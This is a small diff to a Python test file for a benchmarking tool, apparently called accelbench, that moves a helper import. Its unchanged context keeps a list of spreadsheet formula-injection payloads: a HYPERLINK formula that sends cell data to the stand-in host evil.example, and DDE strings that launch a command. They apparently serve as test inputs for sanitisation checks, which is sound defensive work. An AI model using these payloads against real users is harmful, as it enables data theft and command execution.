@@ -14,7 +14,7 @@ from accelbench.engine.importer import import_file
 from accelbench.engine.spec import spec_from_dict
 from accelbench.engine.summary import RunSummary
 from tests.conftest import FIXTURES, accelbench
-from tests.test_sweep import parse_markdown
+from tests.helpers import parse_markdown
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
